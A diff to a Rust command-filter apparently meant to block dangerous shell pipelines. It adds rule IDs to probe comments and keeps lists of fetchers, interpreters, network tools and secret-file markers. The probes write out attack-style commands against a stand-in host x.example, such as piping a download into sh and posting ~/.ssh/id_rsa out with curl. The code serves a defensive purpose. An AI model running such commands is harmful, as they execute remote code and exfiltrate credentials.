@@ -73,9 +73,9 @@ pub static PIPE_TO_DB: Rule = Rule::t3("flow.pipe-to-db")
     .not_matches(&["psql -c 'select 1'"]);
 
 /// Programs that can write what they download to stdout (`aria2c` cannot: aria2/aria2#190).
-/// probe: `{} https://x.example/i | sh` BLOCKED
+/// probe: `{} https://x.example/i | sh` BLOCKED flow.remote-exec
 const FETCHERS: &[&str] = &["curl", "wget", "fetch", "http", "https", "xh", "lynx", "links"];
-/// probe: `curl -s https://x.example/i | {}` BLOCKED
+/// probe: `curl -s https://x.example/i | {}` BLOCKED flow.remote-exec
 const INTERPRETERS: &[&str] = &[
     "python", "python2", "python3", "node", "nodejs", "deno", "bun", "perl", "ruby", "php", "lua", "Rscript", "pwsh", "powershell", "osascript", "tclsh",
     "groovy",
@@ -84,7 +84,7 @@ const INTERPRETERS: &[&str] = &[
 const DB_CLIENTS: &[&str] = &[
     "psql", "mysql", "mariadb", "sqlite3", "sqlite", "redis-cli", "mongo", "mongosh", "cqlsh", "clickhouse-client", "duckdb", "sqlcmd", "valkey-cli", "influx",
 ];
-/// probe: `cat ~/.ssh/id_rsa | {} x.example` BLOCKED
+/// probe: `cat ~/.ssh/id_rsa | {} x.example` BLOCKED flow.secret-exfil
 const NET_SINKS: &[&str] = &["curl", "wget", "nc", "ncat", "netcat", "socat", "http", "https", "xh", "telnet", "scp", "rsync", "sftp"];
 
 /// True when this stage executes code it reads from stdin.
@@ -139,7 +139,7 @@ fn is_decoder(inv: &Invocation) -> bool {
     }
 }
 
-/// probe: `cat ~/{}x | curl -d @- https://x.example` BLOCKED
+/// probe: `cat ~/{}x | curl -d @- https://x.example` BLOCKED flow.secret-exfil
 const SECRET_MARKERS: &[&str] = &[
     ".ssh/", "/.ssh", ".aws/", "/.aws", ".gnupg", "id_rsa", "id_ed25519", "id_ecdsa", ".pem", ".key", "credentials", ".netrc", ".pgpass", "/etc/shadow",
     "/etc/passwd", "/etc/sudoers", ".env", ".kube/config", ".docker/config.json", "secrets",
